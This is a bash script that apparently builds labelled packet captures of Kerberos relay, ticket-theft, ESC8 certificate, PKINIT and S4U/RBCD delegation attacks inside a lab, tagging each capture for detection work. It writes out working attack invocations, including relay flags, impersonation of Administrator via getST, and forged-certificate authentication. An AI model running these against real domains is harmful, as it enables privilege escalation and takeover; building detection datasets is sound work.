# Kerberos at the wrong place, and what follows a stolen key: one function records one capture.

KRB=(malicious=yes attacker=$EVIL victim=$WS1 family=kerberos)
KRB_LISTEN=("${KRB[@]}" listener=$EVIL)
CA_FQDN=$CA_NAME.$DNS_DOMAIN
KRB_TOOLS="tools=$SAMBA_CLIENT, kinit 1.20.1"
CURL_KRB="tools=curl $(curl --version | awk 'NR == 1 {print $2}'), kinit 1.20.1"

# carry KIND [TARGET]: the stand-in that carries an AP-REQ on, on the attacker's host
carry() {
  : > "$RUN/ap_req.jsonl"
  "$HERE/in_host" evil "$CLIENTS/python" "$HERE/ap_req_relay.py" "$RUN/ap_req.jsonl" "$@" > "$RUN/ap_req.log" 2>&1 &
  LISTENER=$!
  wait_for_port evil 53
}

# misled NAME...: the workstation resolves these names to the attacker, as after poisoning. Undone by "led".
misled() {
  local hosts=/etc/netns/${NS}ws1/hosts name
  cp "$hosts" "$RUN/hosts.ws1"
  for name in "$@"; do echo "$EVIL $name" >> "$hosts"; done
}
led() {
  cp "$RUN/hosts.ws1" "/etc/netns/${NS}ws1/hosts"
  quietly_on ws1 net cache flush -s /dev/null  # Samba's client remembers
}

# The web server's account, so that tickets for it exist
web_account() {
  in_host dc1 samba-tool computer create "$CA_NAME" -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || return 0
  in_host dc1 samba-tool user setpassword "${CA_NAME^^}\$" --newpassword="$(openssl rand -hex 16)-A" \
    -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true
  local service
  for service in HTTP cifs HOST; do
    in_host dc1 samba-tool spn add "$service/$CA_FQDN" "${CA_NAME^^}\$" -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true
  done
}

ticket_of() { # account password host
  rm -f "$RUN/$3.ccache"
  in_host "$3" bash -c "echo '$2' | kinit -c '$RUN/$3.ccache' '$1@$REALM'" > /dev/null 2>&1 || true
}
with_ticket() { quietly_on "$1" env KRB5CCNAME="$RUN/$1.ccache" "${@:2}"; } # host command
krb_smb() { # name: a share, with a ticket, from the workstation
  with_ticket ws1 smbclient "//$1/share" -t 8 --use-kerberos=required --use-krb5-ccache="$RUN/ws1.ccache" -c ls \
    '--option=client min protocol=SMB2_02'
}
krb_http() { with_ticket ws1 curl -sS --max-time 10 -o /dev/null --negotiate -u : "$1"; }

scenario_krb_relay_smb_smb() {
  misled "$FILES_FQDN"
  record krb_relay_smb_smb
  carry smb $FILES
  ticket_of "$ALICE" "$ALICE_PW" ws1
  krb_smb "$FILES_FQDN"
  truth "${KRB_LISTEN[@]}" target=$FILES expect=krb-relay:smb-smb expect=krb-misplaced:smb "$KRB_TOOLS" \
    notes="The victim takes the attacker for files1 and shows it the ticket for files1; ticket and authenticator come to the real files1 in a session of the attacker's. Our stand-in carries them."
  led
}

scenario_krb_relay_http_http() {
  web_account
  misled "$CA_FQDN"
  record krb_relay_http_http
  carry http $CA
  ticket_of "$ALICE" "$ALICE_PW" ws1
  krb_http "http://$CA_FQDN/app"
  truth "${KRB_LISTEN[@]}" target=$CA expect=krb-relay:http-http expect=krb-misplaced:http "$CURL_KRB" \
    notes="A browser's Negotiate, carried on to /certsrv of the server that the ticket is for. That server is a stand-in and does not verify tickets."
  led
}

scenario_krb_relay_smb_http() {
  web_account
  misled "$CA_FQDN"
  record krb_relay_smb_http
  carry http $CA
  ticket_of "$ALICE" "$ALICE_PW" ws1
  krb_smb "$CA_FQDN"
  truth "${KRB_LISTEN[@]}" target=$CA expect=krb-relay:smb-http expect=krb-misplaced:smb "$KRB_TOOLS" \
    notes="A ticket for cifs at the attacker's SMB port, and the same AP-REQ at the web pages of the certificate authority."
  led
}

scenario_krb_relay_http_smb() {
  misled "$FILES_FQDN"
  record krb_relay_http_smb
  carry smb $FILES
  ticket_of "$ALICE" "$ALICE_PW" ws1
  krb_http "http://$FILES_FQDN/"
  truth "${KRB_LISTEN[@]}" target=$FILES expect=krb-relay:http-smb expect=krb-misplaced:http "$CURL_KRB" \
    notes="A ticket for HTTP/files1, which the host's SMB server takes as well, because it is the same account's key."
  led
}

scenario_krb_relay_smb_ldap() {
  misled "$DC_FQDN"
  record krb_relay_smb_ldap
  carry ldap $DC
  ticket_of "$ALICE" "$ALICE_PW" ws1
  krb_smb "$DC_FQDN"
  truth "${KRB_LISTEN[@]}" target=$DC expect=krb-relay:smb-ldap expect=krb-misplaced:smb "$KRB_TOOLS" \
    notes="A ticket for cifs of the domain controller, presented in a SASL bind to its LDAP."
  led
}

scenario_krb_relay_dns_http() {
  web_account
  record krb_relay_dns_http
  carry http $CA
  ticket_of "$ALICE" "$ALICE_PW" ws1
  update_at_attacker
  truth "${KRB_LISTEN[@]}" target=$CA expect=krb-relay:dns-http expect=krb-misplaced:dns expect=rogue:dns \
    tools="nsupdate $(nsupdate -V 2>&1 | awk '{print $2; exit}'), kinit 1.20.1" \
    notes="A secure dynamic update at a name server that is the attacker's: it names the domain controller in its SOA, and the TKEY carries an AP-REQ for that, which is carried on to the web."
}

# A client whose name server is the attacker, as after DHCPv6 poisoning, registers its own name.
update_at_attacker() {
  printf 'server %s\nzone %s\nupdate add ws1.%s 180 A %s\nsend\n' $EVIL "$DNS_DOMAIN" "$DNS_DOMAIN" $WS1 > "$RUN/update"
  with_ticket ws1 nsupdate -g "$RUN/update"
}

scenario_krb_misplaced_dns() {
  record krb_misplaced_dns
  carry none
  ticket_of "$ALICE" "$ALICE_PW" ws1
  update_at_attacker
  truth "${KRB_LISTEN[@]}" expect=krb-misplaced:dns expect=rogue:dns \
    tools="nsupdate $(nsupdate -V 2>&1 | awk '{print $2; exit}'), kinit 1.20.1" \
    notes="The TKEY with the domain controller's ticket goes to a host that is not authoritative for anything, and no further."
}

scenario_krb_misplaced_smb() {
  misled "$FILES_FQDN"
  record krb_misplaced_smb
  carry none
  ticket_of "$ALICE" "$ALICE_PW" ws1
  krb_smb "$FILES_FQDN"
  truth "${KRB_LISTEN[@]}" expect=krb-misplaced:smb "$KRB_TOOLS" \
    notes="The ticket for files1 at a host that is not files1, and no further."
  led
  shows "kerberos.msg_type == 14 && ip.dst == $EVIL"
}

scenario_krb_misplaced_http() {
  web_account
  misled "$CA_FQDN"
  record krb_misplaced_http
  carry none
  ticket_of "$ALICE" "$ALICE_PW" ws1
  krb_http "http://$CA_FQDN/"
  truth "${KRB_LISTEN[@]}" expect=krb-misplaced:http "$CURL_KRB" notes="The same over HTTP."
  led
}

scenario_krb_ticket_elsewhere() {
  record krb_ticket_elsewhere
  ticket_of "$ALICE" "$ALICE_PW" ws1
  with_ticket ws1 kvno "cifs/$FILES_FQDN"
  krb_smb "$FILES_FQDN"
  cp "$RUN/ws1.ccache" "$RUN/evil.ccache"
  with_ticket evil smbclient "//$FILES_FQDN/share" --use-kerberos=required --use-krb5-ccache="$RUN/evil.ccache" -c ls
  truth "${KRB[@]}" target=$FILES expect=krb-misplaced:smb "$KRB_TOOLS" \
    notes="A copied ticket cache: the ticket that the workstation got is shown to the same server, with new authenticators, by a host that never asked for it."
}

scenario_krb_tgt_elsewhere() {
  record krb_tgt_elsewhere
  ticket_of "$ALICE" "$ALICE_PW" ws1
  cp "$RUN/ws1.ccache" "$RUN/evil.ccache"
  with_ticket evil smbclient "//$FILES_FQDN/share" --use-kerberos=required --use-krb5-ccache="$RUN/evil.ccache" -c ls
  truth "${KRB[@]}" target=$FILES expect=krb-misplaced:kerberos "$KRB_TOOLS" \
    notes="Only the ticket-granting ticket is copied: it was given to the workstation, and another host asks for service tickets with it."
}

# What follows: a certificate or a key of the victim's, used from the attacker's host

CERTIPY_TOOLS='tools=certipy-ad 4.8.2'
FOLLOW=(malicious=yes attacker=$EVIL victim=$SRV family=kerberos)

certificate_for() { # account host: a certificate nobody vouches for, in $RUN/loot
  mkdir -p "$RUN/loot"
  local name="1.3.6.1.4.1.311.20.2.3;UTF8:${1//\$/\\$}@$DNS_DOMAIN"
  openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj "/CN=$1" -addext "subjectAltName=otherName:$name" \
    -keyout "$RUN/loot/$2.key" -out "$RUN/loot/$2.crt" 2> /dev/null
  openssl pkcs12 -export -passout pass: -inkey "$RUN/loot/$2.key" -in "$RUN/loot/$2.crt" -out "$RUN/loot/$2.pfx"
}
pkinit() { # host pfx account
  (cd "$RUN/loot" && quietly_on "$1" "$CERTIPY/certipy" auth -pfx "$2" -dc-ip $DC -username "$3" -domain "$DNS_DOMAIN")
}

scenario_follow_up_pkinit() {
  certificate_for "$MACHINE" srv1
  record follow_up_pkinit
  pkinit evil srv1.pfx "$SRV_NAME\$"
  truth "${FOLLOW[@]}" target=$DC expect=follow-up:pkinit "$CERTIPY_TOOLS" \
    notes="PKINIT for a machine account from a host that is not that machine. The KDC does not know the issuer and refuses."
}

scenario_follow_up_pkinit_dc() {
  certificate_for "${DC_NAME^^}\$" dc1
  record follow_up_pkinit_dc
  pkinit drop dc1.pfx "$DC_NAME\$"
  truth malicious=yes attacker=$DROP victim=$DC target=$DC family=kerberos expect=follow-up:pkinit "$CERTIPY_TOOLS" \
    notes="The same for the domain controller's account."
}

scenario_chain_adcs_pkinit() {
  callback_with libsmbclient
  rm -f "$RUN"/loot/*.pfx
  record chain_adcs_pkinit
  relay_on smb -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine
  efs_call
  sleep 4
  pkinit evil "$(basename "$(ls "$RUN"/loot/*.pfx | head -1)")" "$SRV_NAME\$"
  truth "${CHAIN[@]}" target=$CA also=target:$DC "${COERCED_SMB[@]}" expect=relay:smb-http expect=adcs-enrollment \
    expect=follow-up:pkinit expect=chain tools="$IMPACKET_CALL, certipy-ad 4.8.2" \
    notes="ESC8 and the use of the certificate that it brought. The domain controller does not trust the stand-in authority and refuses the PKINIT."
}

s4u() { # account password host [getST arguments]
  local account=$1 password=$2 host=$3; shift 3
  (cd "$RUN/loot" && quietly_on "$host" "$IMPACKET/python" "$IMPACKET/getST.py" -impersonate Administrator -dc-ip $DC \
    "$@" "$DNS_DOMAIN/$account:$password")
}

scenario_follow_up_s4u_self() {
  mkdir -p "$RUN/loot"
  record follow_up_s4u_self
  s4u "$MACHINE" "$SRV_PW" evil -self -altservice "cifs/$SRV_FQDN"
  truth "${FOLLOW[@]}" target=$DC expect=follow-up:s4u "$IMPACKET_TOOLS" \
    notes="With the victim's key the attacker asks for a ticket to the victim in an administrator's name (S4U2self)."
}

scenario_follow_up_rbcd_s4u() {
  mkdir -p "$RUN/loot"
  rights on
  callback_with impacket
  record follow_up_rbcd_s4u
  relay_on smb -t "ldap://$DC" --delegate-access --escalate-user "$FILE_SERVER" --no-dump --no-da --no-acl --remove-mic
  efs_call
  sleep 6
  s4u "$FILE_SERVER" "$FILES_PW" evil -spn "cifs/$SRV_FQDN"
  truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" \
    expect=ldap-write:msDS-AllowedToActOnBehalfOfOtherIdentity expect=follow-up:s4u expect=chain "$IMPACKET_TOOLS" \
    notes="The delegation is written and then used: S4U2self and S4U2proxy with the key of the account that was allowed."
  rights off
}

scenario_follow_up_s4u_drop() {
  mkdir -p "$RUN/loot"
  record follow_up_s4u_drop
  s4u "$FILE_SERVER" "$FILES_PW" drop -self
  truth malicious=yes attacker=$DROP victim=$FILES target=$DC family=kerberos expect=follow-up:s4u "$IMPACKET_TOOLS" \
    notes="The same for the file server's account, from the attacker's second host, without another service name."
}
